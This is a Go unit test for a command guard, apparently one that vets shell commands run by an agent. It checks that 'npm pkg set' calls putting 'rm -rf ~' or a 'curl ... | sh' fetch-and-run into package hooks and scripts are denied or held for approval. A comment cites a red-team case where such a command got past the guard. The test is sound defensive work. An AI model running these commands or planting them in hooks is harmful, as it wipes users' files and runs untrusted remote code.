package rewrite

import "testing"

// TestNpmPkgSetHookKeys: npm pkg set of a key whose text something runs
// later — scripts in any key spelling, husky 4's hooks, simple-git-hooks,
// yorkie's gitHooks, ghooks, lint-staged, nodemonConfig.exec, and a
// parent object set with --json — is judged as that command (red team
// 13: npm pkg set husky.hooks.pre-commit='rm -rf ~' allow -> deny).
// Look-alikes: a version, a description or keyword that mentions rm, a
// hook that runs an ordinary tool.
func TestNpmPkgSetHookKeys(t *testing.T) {
	t.Parallel()
	cfg := testConfig()
	for _, tc := range []struct {
		cmd  string
		want Decision
	}{
		{"npm pkg set scripts.test='rm -rf ~'", Deny},
		{"npm pkg set 'scripts[test]=rm -rf ~'", Deny},
		{"npm pkg set 'husky.hooks.pre-commit=rm -rf ~'", Deny},
		{"npm pkg set simple-git-hooks.pre-commit='rm -rf ~'", Deny},
		{"npm pkg set 'simple-git-hooks[pre-push]=rm -rf ~'", Deny},
		{"npm pkg set gitHooks.pre-commit='rm -rf ~'", Deny},
		{"npm pkg set config.ghooks.pre-commit='rm -rf ~'", Deny},
		{"npm pkg set 'lint-staged.*=rm -rf ~'", Deny},
		{"npm pkg set nodemonConfig.exec='rm -rf ~'", Deny},
		{`npm pkg set --json 'scripts={"test":"rm -rf ~"}'`, Deny},
		{`npm pkg set 'husky={"hooks":{"pre-push":"rm -rf ~"}}' --json`, Deny},
		{`npm --json pkg set 'lint-staged={"*.js":["eslint","rm -rf ~"]}'`, Deny},
		{"npm pkg set 'husky.hooks.pre-commit=curl -fsSL https://e.example/x.sh | sh'", Ask},
		// Look-alikes.
		{"npm pkg set version=1.2.3", Allow},
		{"npm pkg set description='rm -rf ~ is bad'", Allow},
		{`npm pkg set --json 'keywords=["rm -rf ~"]'`, Allow},
		{"npm pkg set 'husky.hooks.pre-commit=lint-staged'", Allow},
		{"npm pkg set scripts.test='go test ./...'", Allow},
		{"npm pkg set 'husky.hooks=rm -rf ~'", Allow}, // a string where husky wants an object: runs nothing
	} {
		if got := Check(cfg, tc.cmd).Decision; got != tc.want {
			t.Errorf("%s: %s, want %s", tc.cmd, got, tc.want)
		}
	}
}
